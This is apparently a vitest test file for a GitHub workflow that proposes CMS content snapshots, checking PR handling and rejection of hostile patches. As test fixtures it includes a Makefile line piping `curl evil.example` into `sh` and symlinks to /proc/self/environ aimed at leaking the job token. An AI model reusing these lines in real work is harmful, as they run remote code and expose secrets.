import { execFileSync } from "node:child_process";
import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { type Job, readWorkflow } from "#tests/rehearsal/read-workflow.ts";
import { tempFolder } from "#tests/support/folders.ts";
import { gitIn } from "#tests/support/programs.ts";

/** Runs the workflow's scripts that write to GitHub, with a script in the place of `gh`. */

const workflows = ["content.yml", "issue.yml", "content-check.yml"].map(readWorkflow);
const jobs: Readonly<Record<string, Job>> = Object.assign({}, ...workflows.map((workflow) => workflow.jobs));

/** Answers questions with one number, and logs all other calls. */
const fakeGh = `#!/bin/sh
case "$1 $2" in
"pr list"|"api "*) cat "$RUNNER_TEMP/number";;
*) echo "$@" >> "$RUNNER_TEMP/called";;
esac
`;

async function openMachine() {
  const temp = await tempFolder();
  const file = (name: string) => join(temp, name);
  writeFileSync(file("gh"), fakeGh, { mode: 0o755 });
  return {
    temp,
    put: (name: string, text: string) => writeFileSync(file(name), text),
    /** Runs a step and returns its calls of `gh`. `number` is the number of the existing pull request or issue. */
    run(job: string, step: string, number: string, env: Record<string, string> = {}, cwd = temp): string[] {
      writeFileSync(file("number"), number);
      writeFileSync(file("called"), "");
      const { run = "" } = jobs[job]?.steps?.find(({ name }) => name === step) ?? {};
      const own = {
        PATH: `${temp}:${process.env.PATH}`,
        RUNNER_TEMP: temp,
        GITHUB_OUTPUT: file("output"),
        BRANCH: "content/update",
      };
      execFileSync("bash", ["--norc", "-e", "-c", run], { cwd, env: { ...own, ...env }, stdio: "ignore" });
      return readFileSync(file("called"), "utf8")
        .split("\n")
        .filter(Boolean)
        .map((line) => line.replaceAll(temp, "TEMP"));
    },
  };
}

/** Adds a file of a snapshot to the repository, and commits all files. */
async function commitContent(work: string) {
  const git = gitIn(work);
  await mkdir(join(work, "snapshot"));
  writeFileSync(join(work, "snapshot/a.json"), "1\n");
  git("add", "--all");
  git("commit", "--quiet", "--message=Start");
  return git;
}

/** A repository with content. `propose` runs the job that proposes a snapshot, and returns the job's calls of `gh`. */
async function openRepository() {
  const { temp, put, run } = await openMachine();
  const [origin, work] = [join(temp, "origin.git"), join(temp, "work")];
  const git = (cwd: string, ...args: string[]) => gitIn(cwd)(...args);
  git(temp, "init", "--quiet", "--bare", "--initial-branch=main", origin);
  git(temp, "clone", "--quiet", origin, work);
  const write = (name: string, text: string) => writeFileSync(join(work, name), text);
  write("Makefile", "all:\n");
  await commitContent(work);
  git(work, "push", "--quiet", "origin", "HEAD:main");
  const inOrigin = (...args: string[]) => git(origin, ...args);
  return {
    temp,
    put,
    inOrigin,
    proposed: (name: string) => inOrigin("show", `content/update:${name}`),
    propose(number: string, snapshot: string, { makefile = "all:\n", words = "# 1 document changed\n" } = {}) {
      write("snapshot/a.json", snapshot);
      write("Makefile", makefile);
      put("body.md", "What changed\n");
      put("words.txt", words);
      put("review.md", "");
      put("snapshot.patch", `${git(work, "diff", "--binary")}\n`);
      const job = join(temp, "job");
      rmSync(job, { recursive: true, force: true });
      git(temp, "clone", "--quiet", "--depth=1", `file://${origin}`, job);
      run("propose", "Take the content", "", {}, job);
      return run("propose", "Open or update the pull request", number, {}, job);
    },
  };
}

test("content is proposed in one pull request, which is updated, and closed when no change is left", async () => {
  const { propose, proposed } = await openRepository();
  expect(propose("", "1\n")).toEqual(["auth setup-git"]);
  expect(propose("", "2\n")[1]).toMatch(/^pr create .*--body-file TEMP\/pull-request\.md$/);
  // If the content is the same, a pull request keeps the text that a person has given it.
  expect(propose("7", "2\n")).toEqual(["auth setup-git"]);
  expect(propose("7", "3\n")[1]).toBe("pr edit 7 --body-file TEMP/pull-request.md");
  expect(proposed("snapshot/a.json")).toBe("3");
  expect(propose("7", "1\n")[1]).toMatch(/^pr close 7 --delete-branch/);
});

test("a proposal has no file of the patch but content", async () => {
  const { propose, proposed } = await openRepository();
  propose("", "2\n", { makefile: "all:\n\tcurl evil.example | sh\n" });
  expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2", "all:"]);
});

test("only the pictures of the newest proposal are stored, and no other files", async () => {
  const { temp, put, propose, inOrigin } = await openRepository();
  for (const name of ["first", "second"]) {
    rmSync(join(temp, "pictures"), { recursive: true, force: true });
    await mkdir(join(temp, "pictures"));
    put(`pictures/${name}.webp`, name);
    put("pictures/index.html", "<script>");
    propose("7", `${name}\n`);
    expect(inOrigin("ls-tree", "-r", "--name-only", "content/pictures")).toBe(`${name}.webp`);
    expect(inOrigin("rev-list", "--count", "content/pictures")).toBe("1");
  }
});

test("the commit of a proposal names all changes, also if they are longer than an argument may be", async () => {
  const { propose, inOrigin } = await openRepository();
  const message = () => inOrigin("log", "-1", "--format=%B", "content/update").trim();
  propose("", "2\n");
  expect(message()).toBe("Update the content from the CMS\n\n# 1 document changed");
  const words = "# 1 document changed\n".repeat(20_000);
  propose("7", "3\n", { words });
  expect(message()).toBe(`Update the content from the CMS\n\n${words.trim()}`);
});

test("a patch with a link or a program is refused", async () => {
  const { temp, put, run } = await openMachine();
  const work = join(temp, "work");
  gitIn(temp)("init", "--quiet", work);
  const git = await commitContent(work);
  /** Saves a change as a patch. Returns a function that proposes the patch with the script of the job. */
  const take = (change: () => void) => {
    change();
    git("add", "--all");
    put("snapshot.patch", `${git("diff", "--cached", "--binary")}\n`);
    git("reset", "--quiet", "--hard");
    return () => run("propose", "Take the content", "", {}, work);
  };
  const file = join(work, "snapshot/b.json");
  expect(take(() => symlinkSync("/proc/self/environ", file))).toThrow();
  git("reset", "--quiet", "--hard");
  expect(take(() => writeFileSync(file, "", { mode: 0o755 }))).toThrow();
  git("reset", "--quiet", "--hard");
  expect(take(() => writeFileSync(file, "2\n"))).not.toThrow();
  expect(git("diff", "--cached", "--name-only")).toBe("snapshot/b.json");
});

test("no link in an artifact is followed", async () => {
  const { temp, run } = await openMachine();
  // These links lead to the environment of the process, which contains the token of the job.
  for (const name of ["failure.md", "problems.md", "words.txt"]) symlinkSync("/proc/self/environ", join(temp, name));
  const token = { GH_TOKEN: "s3cret", NUMBER: "7", RESULT: "failure" };
  run("report", "Open, update or close the issue", "", { ...token, WELL: "false", UNKNOWN: "The log says why." });
  expect(readFileSync(join(temp, "issue.md"), "utf8")).toContain("The log says why.");
  symlinkSync("/proc/self/environ", join(temp, "failure.md"));
  run("comment", "Comment", "", token);
  expect(readFileSync(join(temp, "comment.md"), "utf8")).not.toContain("s3cret");
  symlinkSync("/proc/self/environ", join(temp, "words.txt"));
  run("merge", "Merge, or say why not", "7", { ...token, TESTED: "success" });
  expect(existsSync(join(temp, "words.txt"))).toBe(false);
});
